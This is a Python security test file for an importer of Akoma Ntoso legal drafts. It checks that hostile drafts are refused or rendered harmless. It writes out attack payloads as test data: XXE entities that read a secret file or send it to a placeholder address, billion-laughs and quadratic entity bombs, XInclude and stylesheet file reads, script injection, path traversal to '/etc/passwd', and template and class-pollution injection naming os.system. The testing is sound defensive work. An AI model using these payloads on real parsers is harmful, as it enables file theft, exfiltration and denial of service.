"""Drafts from a colleague (.akn): nothing in one is fetched or obeyed, and none stops the program."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from attacks.attempts import Attempt, attempts, refused_or
from attacks.guard import Guard
from attacks.reading import imported, used
from chengwen_library.akn.write import render_measure
from chengwen_library.library import Library
from chengwen_library.model import Form, Unit
from chengwen_templates.draft import load_draft
from drafts import small_draft

SOUND = render_measure(small_draft()).decode()
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
LAUGHS = '<!DOCTYPE a [<!ENTITY a "哈哈哈哈">' + "".join(f'<!ENTITY a{n} "{"&a;" if n == 1 else f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"  # fmt: skip


def with_declaration(declared: str, reference: str = "&e;") -> Callable[[Guard], str]:
    def made(guard: Guard) -> str:
        told = declared.replace("SECRET", guard.secret.as_uri()).replace("ADDRESS", guard.address)
        body = SOUND.partition("?>")[2].replace("建立机制。", f"建立机制。{reference}", 1)
        return HEAD + told + body

    return made


def replaced(old: str, new: str, times: int = 1) -> Callable[[Guard], str]:
    assert old in SOUND, old
    return lambda guard: SOUND.replace(old, new.replace("SECRET", guard.secret.as_uri()), times)


def of_units(count: int) -> Callable[[Guard], str]:
    """Return a draft of many units, each inside the one before."""

    def made(_: Guard) -> str:
        inner = '<section wId="x" eId="x"><num>一、</num>'
        return replaced("</body>", inner * count + "<content><p>底</p></content>" + "</section>" * count + "</body>")(_)

    return made


def going_round(_: Guard) -> str:
    texts = ("按照本措施第（二）条执行。", "按照本措施第（一）条执行。", "按照本措施第一项、第九十九条至第一条执行。")
    children = tuple(Unit(f"u{n}", Form.SECOND, heading="甲", text=text) for n, text in enumerate(texts))
    return render_measure(
        replace(small_draft(), units=(Unit("p", Form.FIRST, heading="乙", children=children),))
    ).decode()


@attempts(
    Attempt("xxe-file", "an external entity that names a file", with_declaration('<!DOCTYPE a [<!ENTITY e SYSTEM "SECRET">]>')),
    Attempt("xxe-address", "an external entity on the web", with_declaration('<!DOCTYPE a [<!ENTITY e SYSTEM "ADDRESS/e">]>')),
    Attempt("xxe-parameter", "a parameter entity that sends a file away", with_declaration('<!DOCTYPE a [<!ENTITY % f SYSTEM "SECRET"><!ENTITY % s "<!ENTITY e SYSTEM \'ADDRESS/?%f;\'>">%s;]>')),
    Attempt("xxe-public", "a definition of the document type on the web", with_declaration('<!DOCTYPE a PUBLIC "-//a" "ADDRESS/a.dtd">', "")),
    Attempt("laughs", "a billion laughs", with_declaration(LAUGHS, "&a11;")),
    Attempt("quadratic", "one long entity, named ten thousand times", with_declaration(f'<!DOCTYPE a [<!ENTITY e "{"甲" * 50_000}">]>', "&e;" * 10_000)),
    Attempt("xinclude", "XInclude of the secret", replaced("建立机制。", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="SECRET" parse="text"/>')),
    Attempt("stylesheet", "a style sheet that reads a file", lambda guard: SOUND.replace("?>", f'?><?xml-stylesheet type="text/xsl" href="{guard.secret.as_uri()}"?>', 1)),
    Attempt("namespace", "elements of somebody else's namespace in the text", replaced("建立机制。", '建立<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>机制。')),
    Attempt("other-root", "our elements in somebody else's namespace", replaced("http://docs.oasis-open.org/legaldocml/ns/akn/3.0", "urn:other", -1)),
    Attempt("same-wids", "all clauses with one identity", lambda _: SOUND.replace('wId="b"', 'wId="a"').replace('wId="c"', 'wId="a"')),
    Attempt("same-eids", "all clauses with one place", lambda _: SOUND.replace("sdv_2", "sdv_1")),
    Attempt("no-wids", "clauses without identity", lambda _: SOUND.replace(' wId="a"', "").replace(' wId="b"', "")),
    Attempt("deep", "two hundred units in each other", of_units(200)),
    Attempt("deeper", "a hundred thousand units in each other", of_units(100_000)),
    Attempt("great-number", "a number of four thousand digits", replaced('cw:number="1"', f'cw:number="{"9" * 4000}"')),
    Attempt("greater-number", "a number of a million digits", replaced('cw:number="1"', f'cw:number="{"9" * 1_000_000}"')),
    Attempt("negative-number", "a negative number", replaced('cw:number="1"', 'cw:number="-5"')),
    Attempt("no-number", "a number that is none", replaced('cw:number="1"', 'cw:number="1_0٣"')),
    Attempt("climbing-id", "an id that climbs out of the library", replaced("/akn/cn-0000/act/0001/1", "/akn/../../../outside", -1)),
    Attempt("device-id", "an id that is a device of Windows", replaced("/akn/cn-0000/act/0001/1", "/akn/con", -1)),
    Attempt("long-id", "an id of ten thousand letters", replaced("/akn/cn-0000/act/0001/1", "/akn/cn-0000/act/0001/" + "x" * 10_000, -1)),
    Attempt("nul-id", "an id with a line break", replaced("/akn/cn-0000/act/0001/1", "/akn/cn&#10;x/act/0001/1", -1)),
    Attempt("provenance", "a source that is the draft's own clause, at a day that never was", replaced('taken="2026-01-12"', 'taken="2026-02-31"')),
    Attempt("path", "a path in a source that is a bomb", replaced('path="[', 'path="' + "[" * 100_000 + "[")),
    Attempt("path-kind", "a path in a source that is no list of words", replaced("path=\"[&quot;（八）&quot;]\"", 'path="[1, null, {}]"')),
    Attempt("date", "a day beyond all calendars", replaced('name="unknown"', 'name="issued"', -1)),
    Attempt("loop", "clauses that refer to each other in a ring", going_round),
    Attempt("terminal", "control characters of eight bits in the title", replaced("示例市若干措施", "示例市&#x9b;2J&#x85;若干措施", -1)),
    Attempt("noncharacter", "a code that is no character", replaced("建立机制。", "建立&#xFFFD;&#xE000;&#x10FFFD;机制。")),
    Attempt("big-table", "a table of a quarter of a million cells", replaced("</act>", f"</act>{'<p>甲</p>' * 250_000}")),
    Attempt("two-acts", "two measures where one belongs", replaced("</body></act>", "</body></act>") if "</body></act>" in SOUND else lambda _: SOUND.replace("</act>", "</act><act name='measure'/>", 1)),
)  # fmt: skip
def test_a_hostile_draft_does_no_harm(
    attempt: Attempt, library: Library, guard: Guard, outcome: Callable[[str], None]
) -> None:
    content = attempt.made(guard).encode()
    outcome(imported("来稿.akn", content, library, guard))
    used_as_draft(guard.folder / "来稿.akn", guard)


def used_as_draft(path: Path, guard: Guard) -> None:
    """Open it as the window does and export it; errors are ours."""

    def act() -> str:
        used(load_draft(path), guard)
        return ""

    with guard.watching():
        refused_or(act)


@attempts(
    Attempt("answers-deep", "answers of a template nested a hundred thousand deep", lambda: "[" * 100_000),
    Attempt("answers-code", "answers that are code", lambda: '{"__class__": {"__init__": "os.system"}, "region": "{{ 7*7 }}"}'),
    Attempt("answers-kinds", "answers of the wrong kinds", lambda: '{"region": [[[1]]], "date": {"$date": "9999-99-99"}}'),
    Attempt("template-above", "a template whose name climbs out of its folder", lambda: "../../../etc/passwd"),
)  # fmt: skip
def test_what_a_draft_says_of_its_making_is_not_obeyed(
    attempt: Attempt, guard: Guard, outcome: Callable[[str], None]
) -> None:
    draft = small_draft()
    assert draft.drafting is not None
    key = "template" if attempt.name.startswith("template") else "answers"
    draft = replace(draft, drafting=replace(draft.drafting, **{key: attempt.made()}))
    with guard.watching():
        outcome(refused_or(lambda: used(draft, guard) or "kept as words, harmless"))
